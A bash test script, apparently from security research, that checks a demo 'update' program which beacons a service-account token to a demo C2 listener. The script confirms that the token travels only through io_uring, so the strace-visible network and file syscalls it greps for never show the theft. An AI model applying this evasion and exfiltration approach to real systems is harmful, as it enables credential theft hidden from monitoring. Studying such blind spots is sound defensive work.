#!/usr/bin/env bash
# The founding demo's C2 pair works, and has the property the demo depends on: the update (Go)
# reads a service-account token and sends it to the C2 listener in length-prefixed gob frames
# once a second, doing all of that file and socket work through io_uring, so plain syscalls
# (openat, read, socket, connect, sendto, write) never touch the token or the C2 socket.
. "$(dirname "$0")/../lib/common.sh"
. "$TESTLIB/demo.sh"
requires_demo
requires_io_uring
requires_cmd strace

demo_token
demo_c2_start 3
# -ff: one file per thread, so no call is split into "unfinished"/"resumed" halves.
strace -ff -qq -s 4096 -o "$TEST_TMP/st" \
	"$DEMO/update" -token "$DEMO_TOKEN" -c2 "$DEMO_C2" -n 3 -interval 1s >"$TEST_TMP/update.log" 2>&1 ||
	fail "update failed: $(cat "$TEST_TMP/update.log")"
demo_wait_frames 3

# The listener decoded 3 frames, each carrying the token's exact bytes.
assert_eq 3 "$(json_count "$DEMO_C2_LOG")" "frames received"
assert_eq 3 "$(json_count "$DEMO_C2_LOG" kind=file "data=$DEMO_TOKEN_VALUE" "path=$DEMO_TOKEN")" \
	"frames carrying the token"
assert_eq "1 2 3" "$(json_get "$DEMO_C2_LOG" seq | sort -n | xargs)" "frame sequence numbers"
assert_eq 3 "$(grep -c 'command "sleep"' "$TEST_TMP/update.log")" "C2 commands read back"

# Beacons about a second apart (loose bounds: a busy 2-core machine, under strace).
python3 - "$DEMO_C2_LOG" <<'PY' || fail "beacon interval is not about 1 s"
import json, sys
t = sorted(json.loads(l)["time_ns"] for l in open(sys.argv[1]) if l.startswith("{"))
gaps = [(b - a) / 1e9 for a, b in zip(t, t[1:])]
print("gaps", gaps)
sys.exit(0 if len(gaps) == 2 and all(0.5 < g < 2.5 for g in gaps) else 1)
PY

cat "$TEST_TMP"/st.* >"$TEST_TMP/strace.log"
calls() { grep -ohE '^[a-z0-9_]+\(' "$TEST_TMP/strace.log" | tr -d '(' | sort -u | xargs; }
log "syscalls made: $(calls)"
# io_uring did the work: one ring, 8 enters per beacon (openat, read, close, socket, connect,
# write, read + link timeout, close).
assert_eq 1 "$(grep -c '^io_uring_setup(' "$TEST_TMP/strace.log")" "io_uring_setup calls"
assert_ge "$(grep -c '^io_uring_enter(' "$TEST_TMP/strace.log")" 24 "io_uring_enter calls"
# No plain network syscall at all.
bad=$(grep -E '^(socket|connect|sendto|sendmsg|sendmmsg|recvfrom|recvmsg|accept4?|bind)\(' \
	"$TEST_TMP/strace.log" || true)
[ -z "$bad" ] || fail "plain network syscalls: $bad"
# The token's path and bytes appear in no syscall's arguments or results (execve's argv aside).
leak=$(grep -v '^execve(' "$TEST_TMP/strace.log" | grep -F -e "$DEMO_TOKEN" -e "$DEMO_TOKEN_VALUE" || true)
[ -z "$leak" ] || fail "token visible to plain syscalls: $leak"
# The only file the program opens by syscall is the Go runtime's own probe.
opens=$(grep -E '^(open|openat|openat2)\(' "$TEST_TMP/strace.log" |
	grep -v 'transparent_hugepage' || true)
[ -z "$opens" ] || fail "unexpected plain opens: $opens"
echo "ok: 3 token frames via io_uring only; syscalls: $(calls)"
